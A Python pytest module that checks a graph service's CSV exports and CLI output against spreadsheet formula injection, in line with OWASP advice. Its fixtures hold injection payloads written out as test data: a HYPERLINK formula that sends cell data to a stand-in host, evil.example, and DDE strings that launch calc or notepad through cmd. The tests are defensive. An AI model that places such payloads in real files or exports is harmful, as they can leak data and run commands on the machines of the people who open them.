"""Formula injection through CSV: ids and names that a spreadsheet would evaluate (`=`, `+`,
`-`, `@`, tab, carriage return, or a separator followed by one) come out of `/export/csv`
(its nodes.csv and edges.csv) and `articula analyze --format csv` as text, as OWASP
advises."""

import csv
import io
import subprocess
import sys
import urllib.request
import zipfile
from collections.abc import Iterator
from pathlib import Path

import neo4j
import pytest

from loaders.load import load
from service.csv_cells import FORMULA_STARTS
from tests.conftest import fresh_reference
from tests.neo4j_backends import Backend, cli_env
from tests.serving import serve

HOSTILE = {  # firm id -> its name; each id starts a formula, or hides one behind a separator
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")": "=1+1",
    "+1+cmd|' /C calc'!A0": "+SUM(1)",
    "-2+3": "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "@SUM(1)",
    "F-SEMI;=1+1": "Punto; =1+1",
    "F-COMMA,=1+1": "Coma, =1+1",
    "F-QUOTE\"=1+1": "Comilla \"=1+1",
    "F-PLAIN": "Llana S.A.",
}
INITIATIVE = "=cmd|' /C notepad'!A0"
# Loaders strip cells, so a leading tab or carriage return only arrives by other means (a
# restored dump, a database written by another tool): these ids are set in the database.
STORED = {"F-PLAIN": "\t=1+1", "-2+3": "\r=2+2"}


@pytest.fixture(scope="module")
def hostile_db(driver: neo4j.Driver, neo4j_backend: Backend,
               tmp_path_factory: pytest.TempPathFactory) -> neo4j.Driver:
    database = neo4j_backend.settings.neo4j_database
    fresh_reference(driver, database)
    folder = tmp_path_factory.mktemp("hostile-csv")
    rows = [{"id": f, "name": n, "territory_code": "CL"} for f, n in HOSTILE.items()]
    write_csv(folder / "firms.csv", rows)
    write_csv(folder / "initiatives.csv", [{"id": INITIATIVE, "name": "@Iniciativa",
                                            "type": "CLUSTER", "territory_codes": "CL"}])
    write_csv(folder / "participations.csv", [
        {"actor_id": f, "initiative_id": INITIATIVE, "role": "MEMBER"} for f in HOSTILE])
    load(folder, driver, database, progress=False)
    for old, new in STORED.items():
        driver.execute_query("MATCH (f:Firm {id: $old}) SET f.id = $new", old=old, new=new,
                             database_=database)
    return driver


def write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def ids() -> set[str]:
    return {STORED.get(f, f) for f in HOSTILE} | {INITIATIVE}


def neutralised(text: str) -> str:
    """What OWASP's advice makes of a text cell."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.fixture(scope="module")
def url(hostile_db: neo4j.Driver, neo4j_backend: Backend) -> Iterator[str]:
    with serve(neo4j_backend.settings) as base:
        yield base


def test_the_owasp_characters_are_the_ones_neutralised() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def exported(url: str, projection: str) -> tuple[str, str]:
    """The text of nodes.csv and edges.csv of the projection's export, with its scores."""
    with urllib.request.urlopen(f"{url}/export/csv?projection={projection}&scores=DEGREE",
                                timeout=120) as response:
        archive = zipfile.ZipFile(io.BytesIO(response.read()))
    return (archive.read("nodes.csv").decode("utf-8"),
            archive.read("edges.csv").decode("utf-8"))


@pytest.mark.parametrize("projection", ["FULL", "ACTORS"])
def test_no_exported_csv_cell_starts_a_formula(projection: str, url: str) -> None:
    nodes, text = exported(url, projection)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["source", "target", "type", "weight"]
    body = rows[1:]
    assert len(body) == (len(HOSTILE) if projection == "FULL"
                         else len(HOSTILE) * (len(HOSTILE) - 1) // 2)
    exported_ids = {cell for row in body for cell in row[:2]}
    expected = {neutralised(i) for i in ids()} if projection == "FULL" else {
        neutralised(STORED.get(f, f)) for f in HOSTILE}
    assert exported_ids == expected
    for row in body:
        for cell in row[:3]:
            assert not cell.startswith(FORMULA_STARTS), row
        assert float(row[3]) > 0
    # Read back as a reader that takes every unquoted cell for a number: the text cells were
    # quoted (a `;` or `,` inside stays inside), the weights were not (numbers stay numbers).
    typed = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert [[type(cell) for cell in row] for row in typed[1:]] == [[str, str, str, float]] * len(
        body)
    assert '"F-SEMI;=1+1"' in text and '"F-QUOTE""=1+1"' in text
    # The node table: ids and names as text, the scores as numbers.
    table = list(csv.DictReader(io.StringIO(nodes, newline="")))
    assert {r["id"] for r in table} == expected
    names = {r["name"] for r in table}
    firms = {neutralised(n) for n in HOSTILE.values()}
    assert names == (firms | {"'@Iniciativa"} if projection == "FULL" else firms)
    for r in table:
        assert r["label"] == r["name"]
        for column, cell in r.items():
            assert not cell.startswith(FORMULA_STARTS), (column, r)
    typed = list(csv.reader(io.StringIO(nodes, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    header = typed[0]
    for row in typed[1:]:
        cells = dict(zip(header, row, strict=True))
        assert isinstance(cells["score_degree"], float) and cells["score_degree"] > 0
        assert all(isinstance(cells[c], str) for c in ("id", "label", "name", "kind"))


def test_articula_analyze_writes_the_same_safe_csv(hostile_db: neo4j.Driver,
                                                   neo4j_backend: Backend) -> None:
    done = subprocess.run(  # bytes: text mode would turn the carriage return into a newline
        [sys.executable, "-m", "service.cli", "analyze", "centrality", "--metric", "degree",
         "--format", "csv"], env=cli_env(neo4j_backend), capture_output=True, check=False)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    assert {r["id"] for r in rows} == {neutralised(i) for i in ids()}
    names = {r["name"] for r in rows}
    assert names == {neutralised(n) for n in HOSTILE.values()} | {"'@Iniciativa"}
    for row in rows:
        assert int(row["rank"]) >= 1 and float(row["score"]) >= 0
        assert not any(row[c].startswith(FORMULA_STARTS) for c in ("id", "name", "kind"))
